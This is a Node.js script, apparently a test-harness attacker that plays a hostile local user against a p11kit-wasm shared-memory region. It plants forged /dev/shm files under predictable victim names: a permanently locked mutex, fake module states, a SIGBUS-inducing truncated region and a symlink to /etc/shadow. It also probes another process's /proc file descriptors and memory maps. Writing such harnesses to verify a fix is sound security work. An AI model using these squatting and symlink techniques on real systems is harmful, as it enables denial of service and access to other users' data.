// The other local user (run as uid 65534): plants lifecycle regions in /dev/shm under every
// name the victim could use, or probes what of the victim it can reach. Node core only: it
// runs from a world-readable copy.
// Usage: node attacker.mjs plant <form> <pid> <start> <identity> | probe <pid>
import { closeSync, ftruncateSync, openSync, readdirSync, readFileSync, symlinkSync, writeSync } from 'node:fs';

const [cmd, ...args] = process.argv.slice(2);
// The layout the region had before it left /dev/shm (anchor.ts, layout 1).
const REGION_BYTES = 163968, MOD_BASE = 16512, MUTEX_KIND_ROBUST = 16;

function region(fill) {
  const b = Buffer.alloc(REGION_BYTES);
  b.writeInt32LE(0x70313177, 0); // magic
  b.writeInt32LE(1, 4); // version
  b.writeInt32LE(1, 8); // ready
  for (const mutex of [64, ...Array.from({ length: 256 }, (_, i) => 128 + i * 64), ...Array.from({ length: 64 }, (_, m) => MOD_BASE + m * 256)]) {
    b.writeInt32LE(MUTEX_KIND_ROBUST, mutex + 16);
  }
  fill(b);
  return b;
}

function moduleSlot(b, identity, phase, holders) {
  const off = MOD_BASE;
  b.writeInt32LE(1, off + 48); // in use
  b.writeInt32LE(phase, off + 52);
  b.writeInt32LE(1, off + 56); // owned
  b.writeInt32LE(holders, off + 64);
  b.writeInt32LE(Buffer.byteLength(identity), off + 80);
  b.write(identity, off + 84);
  for (let i = 0; i < holders; i++) b.writeInt32LE(1, 32896 + i * 4); // holdings of isolates 0..holders-1
}

const forms = {
  'locked-mutex': (p) => write(p, region((b) => b.writeInt32LE(4242, 64))), // registry lock owned by a thread that never ends
  'fake-ready': (p, id) => write(p, region((b) => moduleSlot(b, id, 1, 0))),
  'fake-holders': (p, id) => write(p, region((b) => moduleSlot(b, id, 1, 7))),
  truncated: (p) => {
    write(p, region(() => {}));
    ftruncateSync(openSync(p, 'r+'), 4096); // a region whose pages past 4 KiB raise SIGBUS
  },
  symlink: (p) => symlinkSync('/etc/shadow', p),
  'wrong-owner': (p) => write(p, Buffer.alloc(0)),
};

function write(path, bytes) {
  const fd = openSync(path, 'wx', 0o666);
  writeSync(fd, bytes);
  closeSync(fd);
}

function attempt(fn) {
  try {
    return { ok: true, value: fn() };
  } catch (e) {
    return { ok: false, code: e.code };
  }
}

if (cmd === 'plant') {
  const [form, pid, start, identity] = args;
  // The old name, and the same name for every nearby clock tick (a planter cannot be sure of the tick).
  for (let t = Number(start) - 2; t <= Number(start) + 2; t++) {
    forms[form](`/dev/shm/p11kit-wasm-${pid}-${t}`, identity);
  }
  console.log(JSON.stringify({ planted: readdirSync('/dev/shm').length }));
} else if (cmd === 'probe') {
  const [pid] = args;
  const fds = attempt(() => readdirSync(`/proc/${pid}/fd`));
  const opened = [];
  for (let fd = 0; fd < 64; fd++) {
    const r = attempt(() => closeSync(openSync(`/proc/${pid}/fd/${fd}`, 'r')));
    if (r.ok) opened.push(fd);
  }
  console.log(JSON.stringify({
    fds,
    opened,
    maps: attempt(() => readFileSync(`/proc/${pid}/maps`, 'utf8').split('\n').filter((l) => l.includes('memfd')).length),
    shm: attempt(() => readdirSync('/dev/shm')),
  }));
}
